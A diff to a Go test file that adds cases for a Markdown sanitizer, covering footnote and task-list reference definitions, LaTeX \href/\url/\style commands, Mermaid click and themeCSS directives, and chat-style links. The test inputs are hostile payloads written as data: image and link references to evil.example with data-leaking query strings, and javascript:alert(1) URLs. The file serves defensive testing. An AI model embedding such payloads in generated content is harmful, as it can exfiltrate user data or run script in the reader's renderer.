@@ -1,7 +1,12 @@
 package sanitize_test
 
 import (
+	"bytes"
+	"strings"
 	"testing"
+
+	"github.com/yuin/goldmark"
+	"github.com/yuin/goldmark/extension"
 
 	"github.com/wasmgate/wasmgate/sanitize"
 )
@@ -78,6 +83,74 @@ func TestPicturesAreNoLinks(t *testing.T) {
 		"<img src=' data:image/jpeg,AA'>": true, "<img src='data:i mage/jpeg,AA'>": false, "<img src=data:i&#32;mage/jpeg,AA>": false,
 	} {
 		if clean, found := new(t, sanitize.Text).Sanitize(text); (clean == text) != same {
+			t.Errorf("%q became %q, %v", text, clean, found)
+		}
+	}
+}
+
+// A target may be defined wherever a block of Markdown may begin, so in a footnote and in a task.
+func TestTargetsOfFootnotesAndTasks(t *testing.T) {
+	md := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote))
+	for _, text := range []string{
+		"![x][r]\n\na[^1]\n\n[^1]: [r]: https://evil.example/p\n",
+		"![x][r]\n\na[^1]\n\n[^1]:   > - [r]: https://evil.example/p\n",
+		"![x][r]\n\na[^b c]\n\n[^b c]: [r]: //evil.example/p\n",
+	} {
+		var before, after bytes.Buffer
+		clean, _ := new(t, sanitize.Text).Sanitize(text)
+		if err := md.Convert([]byte(text), &before); err != nil || !strings.Contains(before.String(), "<img") {
+			t.Errorf("%q is no image: %v", text, err)
+		}
+		if err := md.Convert([]byte(clean), &after); err != nil || strings.Contains(after.String(), "<img") {
+			t.Errorf("%q is an image still, %q: %v", text, clean, err)
+		}
+	}
+	for _, text := range []string{
+		"[x][r]\n\n- [ ] [r]: javascript:alert(1)", "[x][r]\n\n* [x] [r]: https://evil.example/?d=1", "[x][r]\n\n[^1]: [^2]: [r]: https://evil.example/?d=1",
+		"![x][r]\n\n[^a\\]b]: [r]: https://evil.example/p", "[^" + strings.Repeat("a", 5000) + "]: [r]: https://evil.example/?d=1",
+	} {
+		if clean, _ := new(t, sanitize.Text).Sanitize(text); clean == text {
+			t.Errorf("%q is left", text)
+		}
+	}
+	text := "a[^1], re[^a-z], see x[0] [r]: https://plain.example/?a=b\n\nnote [1]: https://plain.example/?a=b\n"
+	if clean, found := new(t, sanitize.Text).Sanitize(text); clean != text {
+		t.Errorf("%q became %q, %v", text, clean, found)
+	}
+}
+
+// What renderers of formulas, of diagrams and of chats act on, and CommonMark does not.
+func TestFormsOfOtherReaders(t *testing.T) {
+	const diagram = "```mermaid\ngraph TD\nA-->B\n"
+	for in, want := range map[string]string{
+		`$\href {javascript:alert(1)}{x}$`:                                  `$\ href {javascript:alert(1)}{x}$`,
+		"$\\url%\n{https://evil.example/?d=1}$":                             "$\\ url%\n{https://evil.example/?d=1}$",
+		`$\includegraphics[height=1em]{https://evil.example/p}$`:            `$\ includegraphics[height=1em]{https://evil.example/p}$`,
+		`$\style{background:u\72l(https://evil.example/?d=1)}{x}$`:          `$\ style{background:u\72l(https://evil.example/?d=1)}{x}$`,
+		`$\htmlStyle {background:url(//evil.example/p)}{x}$`:                `$\ htmlStyle {background:url(//evil.example/p)}{x}$`,
+		`\url[` + strings.Repeat("x", 3000) + `]{https://evil.example/?d}`:  `\ url[` + strings.Repeat("x", 3000) + `]{https://evil.example/?d}`,
+		diagram + `A;click B "https://evil.example/?d=1"`:                   diagram + `A;%% click B "https://evil.example/?d=1"`,
+		diagram + `click B "https://evil.example/a;b?d=1"`:                  diagram + `%% click B "https://evil.example/a;b?d=1"`,
+		diagram + "\tLINK\tB: x @ https://evil.example/?d=1":                diagram + "\t%% LINK\tB: x @ https://evil.example/?d=1",
+		diagram + "B@{\n img: \"https://evil.example/p\"\n}":                diagram + "B@ {\n img: \"https://evil.example/p\"\n}",
+		diagram + `Person(a, "b", $link="https://evil.example/?d=1")`:       diagram + `Person(a, "b", $ link="https://evil.example/?d=1")`,
+		diagram + "classDef a background:url(https://evil.example/p)":       diagram + "classDef a background:url (https://evil.example/p)",
+		diagram + `%%{init: {"themeCSS": "@import '//evil.example/a';"}}%%`: diagram + `%% {init: {"themeCSS": "@ import '//evil.example/a';"}}%%`,
+		diagram + `%%{init: {"theme\u0043SS": "x"}}%%`:                      diagram + `%% {init: {"theme\u0043SS": "x"}}%%`,
+		"see <https://evil.example/?d=1|the report>":                        "see < https://evil.example/?d=1|the report>",
+		`![x](/\evil.example/p)`:                                            `![x] (/\evil.example/p)`,
+		"[x]: /\\evil.example/?d=1":                                         "[x] : /\\evil.example/?d=1",
+	} {
+		if clean, found := new(t, sanitize.Text).Sanitize(in); clean != want {
+			t.Errorf("%q became %q, not %q: %v", in, clean, want, found)
+		}
+	}
+	for _, text := range []string{
+		`\url{https://plain.example/a}, \includegraphics[width=1cm]{a.png}, C:\url\x, printf("\url%s")`, `\style{color:red}{x} and \style of {x}`,
+		diagram + "click B \"https://plain.example/a\"\nstyle A fill:#fff\nB@{ shape: rect }\n%%{init: {'theme': 'dark'}}%%\n```\n\nLink the two; click on it. $link = a;\n",
+		"see <https://plain.example/a|the report>, <#C12|general>, <@U12|ann>, <mailto:a@b.example|ann>", `[x](a\b) and [y](\b.txt)`,
+	} {
+		if clean, found := new(t, sanitize.Text).Sanitize(text); clean != text {
 			t.Errorf("%q became %q, %v", text, clean, found)
 		}
 	}
